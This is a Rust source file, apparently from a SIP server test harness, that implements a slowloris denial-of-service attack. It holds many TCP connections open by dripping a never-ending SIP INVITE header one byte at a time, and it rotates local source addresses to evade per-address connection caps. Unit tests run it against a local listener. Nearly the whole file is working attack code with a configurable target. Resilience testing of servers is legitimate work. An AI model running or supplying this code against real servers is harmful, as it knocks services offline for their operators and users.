//! [`SlowTcp`] (slowloris): many TCP connections to the target, each sending the start of a SIP
//! request one byte per `interval` and never finishing its header section, so a server that
//! waits for a whole message (RFC 3261 §18.3 framing) holds a connection, a buffer and a task
//! per attacker for as long as the attacker likes.
//!
//! ```text
//!   connect (paced, from sources round-robin) ─▶ open queue, ordered by next drip time
//!   every tick: front connections due ─▶ read (closed by the target?) ─▶ write one byte ─▶ back
//! ```
//!
//! One thread does it all with non-blocking sockets: a target that stops reading makes a write
//! `WouldBlock` (counted, connection kept), one that closes makes the read return 0 or the write
//! fail (counted, connection dropped). [`SlowTcpHandle::open_now`] says how many are still open.
//! Sources: one local address, or several (127.0.0.2, .3, ...) to get past a per-address cap.

use std::collections::VecDeque;
use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Result, bail};
use socket2::{Domain, Protocol, Socket, Type};

use super::pacer::{Pacer, TICK};
use super::worker::Worker;

/// A slowloris attack to start. See the module doc.
#[derive(Debug, Clone)]
pub struct SlowTcp {
    target: SocketAddr,
    connections: usize,
    sources: Vec<IpAddr>,
    interval: Duration,
    connect_rate: f64,
    connect_timeout: Duration,
}

/// What a [`SlowTcp`] attack did.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct SlowTcpCounts {
    /// Connects tried (at most the number asked for).
    pub attempted: u64,
    pub connected: u64,
    pub connect_failed: u64,
    /// Connections the target closed (read 0, reset, or a failed write).
    pub closed_by_target: u64,
    /// Connections still open when the attack stopped.
    pub open_at_stop: u64,
    pub bytes_sent: u64,
    /// Bytes the target sent back (a 408 or 400, say).
    pub bytes_received: u64,
    /// Drips that found the send buffer full (the target stopped reading).
    pub writes_blocked: u64,
}

/// A running [`SlowTcp`] attack; its connections close when it stops or drops.
#[derive(Debug)]
pub struct SlowTcpHandle {
    worker: Worker<SlowTcpCounts>,
    open: Arc<AtomicU64>,
}

/// One open connection and where it is in its endless request.
#[derive(Debug)]
struct Drip {
    stream: TcpStream,
    next: Instant,
    position: usize,
}

impl SlowTcp {
    /// `connections` connections to `target` from 127.0.0.1, one byte every 10 s each, opened at
    /// up to 1,000 a second (1 s connect timeout each).
    pub fn new(target: SocketAddr, connections: usize) -> SlowTcp {
        SlowTcp {
            target,
            connections,
            sources: vec![IpAddr::V4(Ipv4Addr::LOCALHOST)],
            interval: Duration::from_secs(10),
            connect_rate: 1_000.0,
            connect_timeout: Duration::from_secs(1),
        }
    }

    /// Connect from these local addresses, round-robin (port chosen by the OS).
    pub fn sources(mut self, sources: Vec<IpAddr>) -> SlowTcp {
        self.sources = sources;
        self
    }

    /// Time between two bytes on one connection.
    pub fn interval(mut self, interval: Duration) -> SlowTcp {
        self.interval = interval;
        self
    }

    /// Connects per second while opening.
    pub fn connect_rate(mut self, per_second: f64) -> SlowTcp {
        self.connect_rate = per_second;
        self
    }

    /// Bound on one connect.
    pub fn connect_timeout(mut self, timeout: Duration) -> SlowTcp {
        self.connect_timeout = timeout;
        self
    }

    /// Starts opening connections and dripping.
    pub fn start(self) -> Result<SlowTcpHandle> {
        if self.sources.is_empty() {
            bail!("slow TCP attack with no source address");
        }
        let open = Arc::new(AtomicU64::new(0));
        let gauge = Arc::clone(&open);
        let worker = Worker::spawn("attack-slow-tcp", move |stop| self.run(stop, &gauge))?;
        Ok(SlowTcpHandle { worker, open })
    }

    fn run(&self, stop: &AtomicBool, open: &AtomicU64) -> SlowTcpCounts {
        let mut counts = SlowTcpCounts::default();
        let mut drips: VecDeque<Drip> = VecDeque::with_capacity(self.connections);
        let mut connects = Pacer::new(self.connect_rate, Instant::now());
        let request = request_start(self.target);
        let mut buf = [0u8; 4_096];
        while !stop.load(Ordering::Relaxed) {
            let now = Instant::now();
            for _ in 0..connects.due(now) {
                if counts.attempted as usize >= self.connections || stop.load(Ordering::Relaxed) {
                    break;
                }
                let source = self.sources[counts.attempted as usize % self.sources.len()];
                counts.attempted += 1;
                match connect(source, self.target, self.connect_timeout) {
                    Ok(stream) => {
                        counts.connected += 1;
                        drips.push_back(Drip {
                            stream,
                            next: Instant::now(),
                            position: 0,
                        });
                    }
                    Err(_) => counts.connect_failed += 1,
                }
            }
            let now = Instant::now();
            while drips.front().is_some_and(|d| d.next <= now) {
                let Some(mut drip) = drips.pop_front() else {
                    break;
                };
                if drip_once(&mut drip, &request, &mut buf, &mut counts) {
                    drip.next = now + self.interval;
                    drips.push_back(drip);
                } else {
                    counts.closed_by_target += 1;
                }
            }
            open.store(drips.len() as u64, Ordering::Relaxed);
            thread::sleep(TICK);
        }
        counts.open_at_stop = drips.len() as u64;
        counts
    }
}

/// Reads what the target sent (seeing a close), then writes the next byte; whether the
/// connection is still open.
fn drip_once(drip: &mut Drip, request: &[u8], buf: &mut [u8], counts: &mut SlowTcpCounts) -> bool {
    loop {
        match drip.stream.read(buf) {
            Ok(0) => return false,
            Ok(n) => counts.bytes_received += n as u64,
            Err(e) if e.kind() == ErrorKind::WouldBlock => break,
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(_) => return false,
        }
    }
    let byte = next_byte(request, drip.position);
    match drip.stream.write(&[byte]) {
        Ok(1) => {
            counts.bytes_sent += 1;
            drip.position += 1;
            true
        }
        Ok(_) => true,
        Err(e) if e.kind() == ErrorKind::WouldBlock => {
            counts.writes_blocked += 1;
            true
        }
        Err(_) => false,
    }
}

/// A non-blocking TCP connection from `source` (any port) to `target`.
fn connect(source: IpAddr, target: SocketAddr, timeout: Duration) -> Result<TcpStream> {
    let socket = Socket::new(
        Domain::for_address(target),
        Type::STREAM,
        Some(Protocol::TCP),
    )?;
    socket.bind(&SocketAddr::new(source, 0).into())?;
    socket.connect_timeout(&target.into(), timeout)?;
    socket.set_nonblocking(true)?;
    let stream: TcpStream = socket.into();
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// The request the connections start: a request line and a Via, then header lines forever.
pub(crate) fn request_start(target: SocketAddr) -> Vec<u8> {
    format!(
        "INVITE sip:slow@{target};transport=tcp SIP/2.0\r\n\
         Via: SIP/2.0/TCP 127.0.0.1:9;branch=z9hG4bK-slowloris\r\n"
    )
    .into_bytes()
}

/// Filler after the request start: a header line that never ends the header section.
const FILLER: &[u8] = b"X-Slow: a\r\n";

/// Byte `position` of the endless request: `request`, then [`FILLER`] over and over.
pub(crate) fn next_byte(request: &[u8], position: usize) -> u8 {
    match request.get(position) {
        Some(b) => *b,
        None => FILLER[(position - request.len()) % FILLER.len()],
    }
}

impl SlowTcpHandle {
    /// Connections open now.
    pub fn open_now(&self) -> u64 {
        self.open.load(Ordering::Relaxed)
    }

    /// Closes every connection; what the attack did.
    pub fn stop(self) -> SlowTcpCounts {
        self.worker.finish()
    }
}

#[cfg(test)]
mod tests {
    use std::net::TcpListener;

    use super::*;

    #[test]
    fn the_endless_request_never_ends_its_header_section() {
        let request = request_start("127.0.0.1:5060".parse().unwrap());
        let bytes: Vec<u8> = (0..2_000).map(|i| next_byte(&request, i)).collect();
        assert!(bytes.starts_with(b"INVITE sip:slow@127.0.0.1:5060;transport=tcp SIP/2.0\r\n"));
        assert!(!bytes.windows(4).any(|w| w == b"\r\n\r\n"));
    }

    #[test]
    fn connections_open_from_each_source_drip_and_see_the_target_close() {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let target = listener.local_addr().unwrap();
        let attack = SlowTcp::new(target, 6)
            .sources(vec![
                "127.0.0.5".parse().unwrap(),
                "127.0.0.6".parse().unwrap(),
            ])
            .interval(Duration::from_millis(20))
            .start()
            .unwrap();
        let mut accepted = Vec::new();
        for _ in 0..6 {
            let (stream, from) = listener.accept().unwrap();
            accepted.push((stream, from));
        }
        let sources: std::collections::BTreeSet<_> = accepted.iter().map(|(_, f)| f.ip()).collect();
        assert_eq!(sources.len(), 2, "{sources:?}");
        // Three bytes arrive one at a time on the first connection.
        let (first, _) = &mut accepted[0];
        first
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        let mut got = Vec::new();
        let mut byte = [0u8; 1];
        while got.len() < 3 {
            first.read_exact(&mut byte).unwrap();
            got.push(byte[0]);
        }
        assert_eq!(&got, b"INV");
        crate::wait_until(Duration::from_secs(5), "six open", || {
            anyhow::ensure!(attack.open_now() == 6, "{} open", attack.open_now());
            Ok(())
        })
        .unwrap();
        // The target closes two.
        accepted.truncate(4);
        crate::wait_until(Duration::from_secs(5), "four open", || {
            anyhow::ensure!(attack.open_now() == 4, "{} open", attack.open_now());
            Ok(())
        })
        .unwrap();
        let counts = attack.stop();
        assert_eq!(counts.connected, 6, "{counts:?}");
        assert_eq!(counts.closed_by_target, 2, "{counts:?}");
        assert_eq!(counts.open_at_stop, 4, "{counts:?}");
        assert!(counts.bytes_sent >= 6, "{counts:?}");
    }
}
